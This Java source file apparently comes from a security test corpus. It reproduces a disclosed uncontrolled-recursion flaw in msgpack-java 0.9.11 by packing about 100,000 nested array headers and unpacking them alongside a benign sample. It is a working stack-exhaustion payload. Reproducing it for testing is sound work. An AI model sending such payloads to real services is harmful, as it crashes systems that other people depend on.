package corpus.msgpack;

import corpus.CorpusDriver;
import org.msgpack.core.MessageBufferPacker;
import org.msgpack.core.MessagePack;

/**
 * msgpack-java (msgpack-core) 0.9.11, security disclosure msgpack/msgpack-java#1015 (uncontrolled
 * recursion, CWE-674; no CVE identifier found): array headers nested without limit make
 * {@code MessageUnpacker#unpackValue} call itself once per level until the stack runs out (pull
 * request #1026 proposes a nesting limit).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        MessageBufferPacker hostile = MessagePack.newDefaultBufferPacker();
        for (int i = 0; i < depth; i++) {
            hostile.packArrayHeader(1);
        }
        hostile.packInt(1);
        byte[] hostileBytes = hostile.toByteArray();
        MessageBufferPacker benign = MessagePack.newDefaultBufferPacker();
        benign.packMapHeader(2).packString("name").packString("benign");
        benign.packString("items").packArrayHeader(2).packInt(1).packArrayHeader(1).packInt(2);
        byte[] benignBytes = benign.toByteArray();
        CorpusDriver.run("msgpack", MessagePack.class,
                () -> MessagePack.newDefaultUnpacker(benignBytes).unpackValue().toJson(),
                () -> MessagePack.newDefaultUnpacker(hostileBytes).unpackValue());
    }
}
